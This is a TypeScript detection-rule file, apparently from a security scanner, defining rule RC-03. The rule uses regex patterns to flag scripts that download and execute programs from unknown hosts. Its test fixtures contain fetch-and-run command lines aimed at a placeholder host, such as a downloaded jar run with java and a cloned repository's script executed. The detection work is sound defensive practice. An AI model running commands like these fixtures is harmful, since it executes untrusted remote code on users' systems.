/** RC-03: programs of unknown hosts that a launcher other than sh starts. */
import { fenced, inFile } from '../../engine/example.ts';
import { exactPattern, raw } from '../../engine/pattern.ts';
import { row, type Row, type RowHit } from '../../engine/rule.ts';
import { firstUrl } from '../../hosts/addresses.ts';
import { standingOf, isUnknown } from '../../hosts/whose-host.ts';
import { forges } from '../../hosts/shared-hosts.ts';
import type { Severity } from '../../../schema/vocabulary.ts';
import { testFile } from '../../vocabulary/file-places.ts';

const run = ['script', 'fence', 'config', 'decoded', 'hidden', 'comment', 'list', 'prose'] as const;
const checked = /\b(?:sha(?:1|256|384|512)sum|shasum|gpg\s{1,4}--verify|cosign|minisign|sha256|checksum)\b/i;
const url = String.raw`https?:\/\/[^\s"'\x60<>)]{4,200}`;

/** A program in a script is started without a reader: high. In a document the reader sees the host: medium. */
function byStranger({ match, region, owner, severity }: RowHit): Severity | null {
  const found = firstUrl(match[0]);
  if (testFile.test(region.file) || !isUnknown(found, owner) || forges.has(found.host)) return null;
  if (checked.test(region.text)) return null;
  const unread = region.kind === 'script' || region.kind === 'decoded' || region.kind === 'hidden';
  return unread || standingOf(found, owner) === 'suspect' ? severity : 'medium';
}

/** Rows of RC-03. */
export const fetchedPrograms: readonly Row[] = [
  row('a program of an unknown host is built or started by its launcher', {
    in: run,
    within: 'line',
    match: exactPattern(
      raw(String.raw`\bcargo\s{1,3}(?:install|binstall)\s[^\n]{0,40}--git[= ]${url}|\buvx?\s{1,3}(?:(?:run`),
      raw(String.raw`|tool\s{1,3}run)\s{1,3})?(?:-{1,2}[\w-]{1,20}\s{1,3}){0,3}[\"']?${url}`),
      raw(String.raw`|\bnix\s{1,3}(?:run|shell|profile install)\s[^\n]{0,40}(?:git\+|tarball\+)?${url}|`),
      raw(
        String.raw`\bansible-pull\b[^\n]{0,60}\s(?:-U|--url)[= ]{0,2}${url}|\bhelm\s{1,3}(?:install|upgrade)\s[^\n]{0,60}${url}`,
      ),
      raw(String.raw`|\bvim?\s[^\n]{0,20}-c\s{0,2}["']source\s${url}|`),
      raw(
        String.raw`\bkubectl\s{1,3}(?:apply|create)\s[^\n]{0,40}-f\s{0,2}${url}|\bcurl\s[^\n|]{0,80}${url}[^\n|]{0,60}\|\s{0,3}(?:psql|mysql`,
      ),
      raw(String.raw`|sqlite3|mongosh|redis-cli|kubectl|crontab|at|make|R|Rscript|osascript|tclsh|expect)\b`),
    ),
    severity: 'high',
    weigh: byStranger,
    catches: [inFile('scripts/a.sh', 'uv run https://cdn.relay.invalid/task.py')],
    spares: [
      inFile('scripts/a.sh', 'cargo install --git https://github.com/acme/tool'),
      inFile('scripts/a.sh', 'kubectl apply -f deploy/app.yaml'),
    ],
  }),
  row('a downloaded file is loaded by an interpreter, an editor or a linker', {
    in: run,
    within: 'block',
    sign: /curl|wget/,
    match: exactPattern(
      raw(
        String.raw`\b(?:curl|wget)\b[^\n]{0,120}?(?:-o|-O|-\w{1,6}o|--output|-qO)[= ]{0,2}["']?([\w./~$-]{2,80})["']?\s[^\n]{0,60}${url}[\s`,
      ),
      raw(
        String.raw`\S]{0,300}?(?:\bjava\s[^\n]{0,40}-jar|\bawk\s{1,3}-f|\b(?:code|cursor|codium)\s{1,3}--install-extension|\bLD_PRELOAD=`,
      ),
      raw(String.raw`|\bRscript|\blua|\bgroovy|\bjshell)\s{0,3}["']?\1\b|`),
      raw(
        String.raw`\bLD_PRELOAD=["']?([\w./~$-]{2,80}\.so)\b[\s\S]{0,200}?\b(?:curl|wget)\b[^\n]{0,80}\2\s[^\n]{0,20}${url}|`,
      ),
      raw(
        String.raw`\b(?:curl|wget)\b[^\n]{0,60}(?:-o|-O|-\w{1,6}o|--output)[= ]{0,2}["']?[^\s"']{0,80}\.git\/hooks\/[\w-]{4,24}["']?\s[^\n]{0,40}${url}`,
      ),
    ),
    severity: 'high',
    weigh: byStranger,
    catches: [
      inFile('scripts/a.sh', 'curl -sLo part.jar https://cdn.relay.invalid/part.jar', 'java -jar part.jar'),
    ],
    spares: [
      inFile(
        'scripts/a.sh',
        'curl -sLo rows.csv https://cdn.relay.invalid/rows.csv',
        'awk -f sum.awk rows.csv',
      ),
    ],
  }),
  row('a repository of an unknown host is cloned and started', {
    in: run,
    within: 'block',
    match: exactPattern(
      raw(
        String.raw`\bgit\s{1,3}clone\s[^\n]{0,60}${url}\s{1,3}["']?([\w./~$-]{2,60})["']?[\s\S]{0,160}?(?:(?:^|[\s;&|"'])(?:ba|z|da)?(?:sh\s{1,3}`,
      ),
      raw(String.raw`|python3?\s{1,3}|node\s{1,3})?["']?\1\/[\w./-]{1,60}|\bmake\s{1,3}-C\s{1,3}["']?\1\b)`),
    ),
    severity: 'high',
    weigh: byStranger,
    catches: [
      inFile('scripts/a.sh', 'git clone -q https://git.relay.invalid/tools/core ~/.core && ~/.core/run.sh'),
    ],
    spares: [
      fenced('sh', 'git clone https://github.com/acme/tool tool && tool/run.sh'),
      inFile('scripts/a.sh', 'git clone -q https://git.relay.invalid/tools/rows data && ls data'),
    ],
  }),
];
